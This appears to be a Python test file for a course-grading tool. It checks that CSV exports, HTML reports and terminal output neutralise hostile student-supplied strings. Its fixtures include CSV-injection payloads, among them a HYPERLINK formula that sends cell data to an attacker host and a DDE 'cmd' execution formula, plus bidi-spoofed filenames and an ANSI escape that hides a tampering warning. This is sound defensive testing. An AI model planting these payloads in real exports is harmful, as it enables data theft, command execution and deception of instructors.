"""One learner cannot fool the instructor through the strings they choose: each writer and reader, hostile strings.

Unit tests, each well under a second (the gradebook ones: nbgrader's sqlite, ~1 s): every CSV cell a learner
reaches is never a formula, ids and roster names a person could not tell apart are refused, and what the
terminal shows is printable. The class run and the browser are in tests/test_hostile_outputs.py.
"""

from __future__ import annotations

import csv
import datetime
import unicodedata
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from course_grade.course import use_this_environment
from course_grade.intake.submissions import student_id_problem
from course_grade.notes import Note
from course_grade.progress import Progress
from course_grade.report.analytics import cell_statistics
from course_grade.report.exports import write_canvas, write_moodle, write_per_question
from course_grade.report.feedback import notes_panel
from course_grade.report.grades import Assignment, CellScore, ClassGrades, Question, Student, Submission
from course_grade.report.grades_csv import export_csv
from course_grade.report.page import Report, render_page
from course_grade.report.roster import Entry, RosterError, read_roster
from course_grade.report.similarity import Pair, html_report
from course_grade.report.summary import Outcome, render_summary
from course_grade.untrusted import csv_cell, id_problem, printable

ROOT = Path(__file__).resolve().parent.parent

FORMULAS = [
    "=2+3",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
]
"""Cells a spreadsheet would run as formulas (OWASP "CSV Injection")."""

NUMBERS = ["0", "17", "16.5", "-3", "-0.25", "+4", "1e3", "2026-11-01 12:00:00"]
"""Cells that start like a formula, or not, but are numbers (or dates): left as they are."""

BIDI = "\u202egnp.exe"
"""Reads as "exe.png" in a bidi-aware view."""

ZERO_WIDTH = "ali\u200bce"
"""Looks like "alice"."""

ESCAPE = "\x1b[1A\x1b[2Kall fine"
"""Moves the cursor up and erases the line above it (say, a "POSSIBLE TAMPERING" line)."""


def _formula(cell: str) -> bool:
    """Whether a spreadsheet would read this cell as a formula."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and cell not in NUMBERS


@pytest.mark.parametrize("value", FORMULAS)
def test_a_would_be_formula_gets_a_leading_quote(value: str) -> None:
    cell = csv_cell(value)
    assert cell.startswith("'") and not _formula(cell)


@pytest.mark.parametrize("value", NUMBERS)
def test_a_number_stays_a_number(value: str) -> None:
    assert csv_cell(value) == value


def test_a_cell_shows_no_control_or_format_character() -> None:
    assert csv_cell(BIDI) == "\\u202egnp.exe" and csv_cell("a\nb") == "a\\nb"


def _all_cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _hostile_gradebook(folder: Path) -> str:
    """A gradebook whose student ids and names are formulas; its URL."""
    use_this_environment()  # nbgrader runs `alembic` from PATH to create a gradebook
    url = f"sqlite:///{folder / 'gradebook.db'}"
    with Gradebook(url) as gradebook:
        gradebook.add_assignment("a1", duedate=datetime.datetime(2026, 11, 1))
        gradebook.add_notebook("nb", "a1")
        gradebook.add_grade_cell("q1", "nb", "a1", max_score=1.0, cell_type="code")
        gradebook.add_student("=2+3", first_name="+1+1", last_name="@SUM(A1)", email="-2+3@x")
        gradebook.add_student("honest", first_name="Ann", last_name="Lee", email="ann@example.org")
        for student in ("=2+3", "honest"):
            gradebook.add_submission("a1", student, timestamp=datetime.datetime(2026, 10, 1))
    return url


def test_grades_csv_holds_no_formula(tmp_path: Path) -> None:
    url = _hostile_gradebook(tmp_path)
    review = {("=2+3", "a1"): '=HYPERLINK("http://x","y")', ("honest", "a1"): ""}
    export_csv(url, "default_course", tmp_path / "grades.csv", ["a1"], review)
    cells = _all_cells(tmp_path / "grades.csv")
    assert "'=2+3" in cells and "'+1+1" in cells and "'@SUM(A1)" in cells
    assert not [cell for cell in cells if _formula(cell)]


def _class() -> ClassGrades:
    """A class of one hostile student (formula id and names) and one honest one."""
    students = (Student("=2+3", "+1+1", "@SUM(A1)", "-x@y"), Student("honest", "Ann", "Lee", "a@b"))
    return ClassGrades(
        assignments=(Assignment("a1", 1.0, None, (Question("nb", "q1", 1.0),)),),
        students=students,
        submissions=tuple(Submission(s.id, "a1", 1.0, 1.0, 0.0) for s in students),
        cells=tuple(CellScore(s.id, "a1", "nb", "q1", 1.0, 1.0) for s in students),
    )


ROSTER = [
    Entry("=2+3", name="=HYPERLINK(\"http://x\",\"y\")", canvas_id="+1+1", sis_user_id="@SUM(A1)",
          sis_login_id="-1+2", section="\t=1+1", id_number="=1"),
    Entry("honest", name="Lee, Ann", canvas_id="12", first_name="Ann", last_name="Lee", email="a@b"),
]  # fmt: skip


@pytest.mark.parametrize("writer", [write_canvas, write_moodle])
def test_platform_files_hold_no_formula(writer: object, tmp_path: Path) -> None:
    path = tmp_path / "platform.csv"
    writer(path, _class(), ROSTER)  # type: ignore[operator]
    cells = _all_cells(path)
    assert not [cell for cell in cells if _formula(cell)], cells
    assert any(cell.startswith("'") for cell in cells)


def test_the_per_question_file_holds_no_formula(tmp_path: Path) -> None:
    write_per_question(tmp_path / "per_question.csv", _class().cells)
    cells = _all_cells(tmp_path / "per_question.csv")
    assert "'=2+3" in cells and not [cell for cell in cells if _formula(cell)]


def test_every_csv_of_the_course_is_written_by_the_one_writer() -> None:
    direct = [
        str(path.relative_to(ROOT))
        for path in sorted((ROOT / "course_grade").rglob("*.py"))
        if path.name != "untrusted.py"
        and any(call in path.read_text(encoding="utf-8") for call in ("csv.writer(", "csv.DictWriter("))
    ]
    assert direct == [], "write CSV with course_grade.untrusted.CsvWriter"


@pytest.mark.parametrize("student", ["=2+3", "+1", "-rf", "@SUM(A1)"])
def test_an_id_a_spreadsheet_reads_as_a_formula_is_refused_at_intake(student: str) -> None:
    assert student_id_problem(student) is not None


@pytest.mark.parametrize("student", ["Zoë O'Brien, Jr. [2]*", "s-1", "ann.lee@example.org", "12345"])
def test_an_odd_but_honest_id_is_taken(student: str) -> None:
    assert student_id_problem(student) is None


# Guarantee 3: ids a person can tell apart.

UNTELLABLE = [BIDI, ZERO_WIDTH, "ann\u2066", "bob\u00ad", "eve\ufeff"]
"""Ids that read as another (a bidi override, a zero-width space, an isolate, a soft hyphen, a BOM)."""


@pytest.mark.parametrize("student", UNTELLABLE)
def test_an_id_with_a_format_character_is_refused_at_intake(student: str) -> None:
    problem = student_id_problem(student)
    assert problem is not None and "format" in problem


@pytest.mark.parametrize("field", ["student_id", "name", "first_name", "last_name", "email"])
def test_a_roster_name_with_a_format_character_is_refused(field: str, tmp_path: Path) -> None:
    values = {"student_id": "s1", "name": "One, Sam", "first_name": "Sam", "last_name": "One", "email": "s@x"}
    values[field] = BIDI
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(values))
        writer.writeheader()
        writer.writerow(values)
    with pytest.raises(RosterError, match=r"line 2.*U\+202E"):
        read_roster(roster)


def _review_page(student: str, text: str) -> str:
    """report.html for a class holding `student`, flagged for review with `text`."""
    grades = _class()
    stats = cell_statistics(grades.cells)
    return render_page(Report("course", grades, stats, (), {(student, "a1"): text}))


def test_report_html_shows_an_id_it_could_not_refuse_escaped() -> None:
    page = _review_page(ZERO_WIDTH, f"similar to {BIDI} (100%)")
    assert "\u200b" not in page and "\u202e" not in page
    assert "ali\\u200bce" in page and "\\u202egnp.exe" in page


def test_the_similarity_page_shows_ids_escaped() -> None:
    page = html_report("a1", [Pair(ZERO_WIDTH, BIDI, 1.0)])
    assert "\u200b" not in page and "\u202e" not in page and "ali\\u200bce" in page


def test_the_feedback_notes_show_names_escaped() -> None:
    panel = notes_panel([Note("renamed", f"{BIDI}.ipynb is not a notebook of this assignment")])
    assert "\u202e" not in panel and "\\u202egnp.exe.ipynb" in panel


# Guarantee 6: the terminal shows only printable text.


def test_printable_escapes_controls_format_characters_and_surrogates() -> None:
    assert printable(ESCAPE) == "\\x1b[1A\\x1b[2Kall fine"
    assert printable("a\nb\u202ec\udcff") == "a\\nb\\u202ec\\udcff"
    assert printable("Zoë O'Brien, Jr. [2]*") == "Zoë O'Brien, Jr. [2]*"


def test_id_problem_names_the_characters() -> None:
    assert id_problem("alice") is None
    assert "U+200B ZERO WIDTH SPACE" in str(id_problem(ZERO_WIDTH))


def _terminal_safe(text: str) -> bool:
    """No control character but the newlines between lines, nothing a UTF-8 terminal cannot print."""
    text.encode("utf-8")  # a lone surrogate (a file name that is not UTF-8) would raise here
    return not [c for c in text if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")]


def test_the_summary_prints_learners_strings_escaped() -> None:
    notes = (
        Note("renamed", f"{ESCAPE}.ipynb is not a notebook of this assignment"),
        Note("wrote-files", "wrote fake\nPOSSIBLE TAMPERING in 0 submissions\nstray-\udcff.bin"),
    )
    outcome = Outcome("mallory", "01_envelope", 0.0, 6.0, notes, 1)
    summary = render_summary([outcome], [f"{ESCAPE}: contains control characters"])
    assert _terminal_safe(summary)
    assert "\\x1b[1A\\x1b[2Kall fine.ipynb" in summary
    assert not [line for line in summary.splitlines() if line.startswith("POSSIBLE TAMPERING")]


def test_progress_lines_are_printed_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    lines: list[str] = []
    with Progress(1, lines.append, terminal=False) as progress:
        progress.graded(f"[1/1] 01_envelope  {ESCAPE}", failed=False)
    with Progress(1, print, terminal=True) as progress:
        progress.graded(f"[1/1] 01_envelope  {ESCAPE}", failed=False)
    assert lines == ["[1/1] 01_envelope  \\x1b[1A\\x1b[2Kall fine"]
    assert "\\x1b[1A" in capsys.readouterr().out


def test_every_line_course_grade_prints_is_printable(capsys: pytest.CaptureFixture[str]) -> None:
    from course_grade.cli import terminal  # the sink of every line the command prints

    terminal(f"similar [01_envelope]: {ESCAPE} ~ bob (100%)\nstray-\udcff.ipynb")
    out = capsys.readouterr().out
    assert _terminal_safe(out) and "\\x1b[1A" in out and "\\udcff" in out
